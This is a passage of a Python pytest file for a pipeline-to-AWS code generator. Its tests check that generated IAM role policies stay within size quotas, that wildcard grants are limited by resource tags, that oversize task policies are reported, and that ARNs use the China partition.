        'pipeline = Pipeline(name="long")',
    ]
    lines += [f'd{i} = Dataset(name="d{i}")' for i in range(tasks - 1)]
    lines.append(f'd{tasks - 1} = Dataset(name="d{tasks - 1}", storage=ObjectStorage(bucket="b"))')
    for i in range(tasks):
        compute = "compute=Container()" if i < containers else ""
        argument = f"x: d{i - 1}" if i else ""
        lines += ["", "", f"@pipeline.task({compute})", f"def t{i}({argument}) -> d{i}:"]
        lines.append(f"    return {'x' if i else 0}")
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def long_program(tmp_path_factory: pytest.TempPathFactory) -> Program:
    """90 tasks (3 on Fargate): exact ARNs of them all would be ~15,000 characters."""
    tmp = tmp_path_factory.mktemp("long")
    (tmp / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    (tmp / "long.py").write_text(_chain_module(90, containers=3))
    analysis = analyze([str(tmp / "long.py")])
    (model,) = analysis.pipelines
    files = emit_programs(analysis, model)
    resources = _preview(files, tmp / "build", DEFAULT_ENV)
    return Program("long.py", DEFAULT_ENV, model, tmp, files, resources, {}, [], {}, [])


def test_no_role_policy_is_over_iams_quota(
    programs: dict[tuple[str, str], Program], long_program: Program
) -> None:
    for program in [*_each(programs), long_program]:
        for policy in program.of_type(ROLE_POLICY):
            size = _policy_chars(policy["inputs"]["policy"])
            assert size <= ROLE_POLICY_LIMIT, (program.example, policy["name"], size)


def test_a_large_state_machine_is_allowed_exactly_its_tagged_tasks(long_program: Program) -> None:
    """Over the quota, the state machine's role is allowed the functions, task definitions
    and roles that carry the pipeline's and the stack's tags, on the account's ARNs of their
    kind: the same resources as the exact ARNs, which would not fit."""
    program = long_program
    functions = program.of_type("aws:lambda/function:Function")
    assert len(functions) == 87
    exact = sum(2 * len(f["outputs"]["arn"]) + 8 for f in functions)
    assert exact > ROLE_POLICY_LIMIT  # exact ARNs would not fit
    tags = {"glacier:pipeline": "long", "glacier:stack": DEFAULT_ENV}
    for resource in [
        *functions,
        *program.of_type("aws:ecs/taskDefinition:TaskDefinition"),
        *[r for r in program.of_type(ROLE) if r["name"].endswith(("-task-role", "-exec-role"))],
    ]:
        assert tags.items() <= resource["inputs"]["tags"].items(), resource["name"]
    policy = program.named(ROLE_POLICY, "long-sfn-policy")
    statements = {s["Sid"]: s for s in json.loads(policy["inputs"]["policy"])["Statement"]}
    condition = {f"aws:ResourceTag/{k}": v for k, v in tags.items()}
    account = "arn:aws:{}:us-east-1:123456789012:"
    invoke = statements["InvokeTaskFunctions"]
    assert invoke["Resource"] == [account.format("lambda") + "function:*"]
    assert invoke["Condition"] == {"StringEquals": condition}
    run = statements["RunTaskDefinitions"]
    assert run["Resource"] == [account.format("ecs") + "task-definition/*"]
    assert run["Condition"]["StringEquals"] == condition
    assert "ecs:cluster" in run["Condition"]["ArnEquals"]  # still on the pipeline's cluster
    passing = statements["PassTaskRoles"]
    assert passing["Resource"] == ["arn:aws:iam::123456789012:role/*"]
    assert passing["Condition"]["StringEquals"] == {
        "iam:PassedToService": "ecs-tasks.amazonaws.com",
        **condition,
    }
    assert _audit(program, _accepted_findings(), set(), set()) == []


def test_a_task_whose_policy_iam_would_refuse_is_reported(tmp_path: Path) -> None:
    """GLC308 at the task, from `glacier build`: a fan-in of 30 ephemeral datasets (the
    scratch bucket's long name makes each about 370 characters); 20 fit."""
    from codegen.aws._diagnostics import deployment_diagnostics

    def fan_in(inputs: int) -> list[Any]:
        lines = ["from glacier import Dataset, Pipeline", "", 'pipeline = Pipeline(name="fan")']
        lines += [f'd{i} = Dataset(name="d{i}")' for i in range(inputs)]
        for i in range(inputs):
            lines += ["", "", "@pipeline.task()", f"def t{i}() -> d{i}:", "    return 0"]
        parameters = ", ".join(f"x{i}: d{i}" for i in range(inputs))
        lines += ["", "", "@pipeline.task()", f"def gather({parameters}) -> None:", "    pass"]
        path = tmp_path / f"fan{inputs}.py"
        path.write_text("\n".join(lines) + "\n")
        analysis = analyze([str(path)])
        (model,) = analysis.pipelines
        return [d for d in deployment_diagnostics(analysis, model) if d.code == "GLC308"]

    (found,) = fan_in(30)
    lines = (tmp_path / "fan30.py").read_text().splitlines()
    assert lines[found.line - 1].startswith("def gather(")
    assert found.severity == "error"
    assert "task `gather` reads and writes 30 datasets" in found.message
    assert fan_in(20) == []


def test_the_task_policy_bound_holds_against_the_programs(
    programs: dict[tuple[str, str], Program], long_program: Program
) -> None:
    """GLC308's size is an upper bound of the policy each program writes, and a close one."""
    from codegen.aws._policies import task_policy_size

    checked = 0
    for program in [*_each(programs), long_program]:
        model = program.model
        datasets = {d.name: d for d in model.datasets}
        policies = {p["name"]: p for p in program.of_type(ROLE_POLICY)}
        for task in model.tasks:
            policy = policies.get(f"{component_name(model.name, task.name)}-policy")
            if policy is None:
                continue
            actual = _policy_chars(policy["inputs"]["policy"])
            bound = task_policy_size(model, task, datasets)
            assert actual <= bound <= actual + 800, (program.example, task.name, actual, bound)
            checked += 1
    assert checked >= 100


CHINA_PROJECT = """
from glacier import Container, Dataset, Pipeline
from glacier_aws import Environment

pipeline = Pipeline(name="cn")
china = Environment(account="123456789012", region="cn-north-1", name="china")
rows = Dataset(name="rows", storage=china.s3("cn-rows"))
report = Dataset(name="report")


@pipeline.task()
def load() -> rows:
    return [1]


@pipeline.task(compute=Container())
def summarise(values: rows) -> report:
    return len(values)
"""


def test_every_arn_is_in_the_partition_of_the_environments_region(tmp_path: Path) -> None:
    """In China (and GovCloud) ARNs start `arn:aws-cn:` (`arn:aws-us-gov:`); a grant naming
    `arn:aws:s3:::...` there would match nothing and deny every task its data."""
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    (tmp_path / "cn.py").write_text(CHINA_PROJECT)
    analysis = analyze([str(tmp_path / "cn.py")])
    (model,) = analysis.pipelines
    resources = _preview(emit_programs(analysis, model), tmp_path / "build", "china")
    documents = [
        r["inputs"][key]
        for r in resources
        for key in ("policy", "assumeRolePolicy")
        if isinstance(r["inputs"].get(key), str) and r["inputs"][key].lstrip().startswith("{")
    ]
    arns = [a for d in documents for a in re.findall(r'"(arn:[^"]*)"', d)]
    assert any(a.startswith("arn:aws-cn:s3:::cn-rows/rows.") for a in arns)
    assert any(":events:cn-north-1:" in a for a in arns)  # the `.sync` rule of ECS
    assert any(":states:*:" in a for a in arns)  # the machine role's trust
    assert [a for a in arns if not a.startswith("arn:aws-cn:")] == []
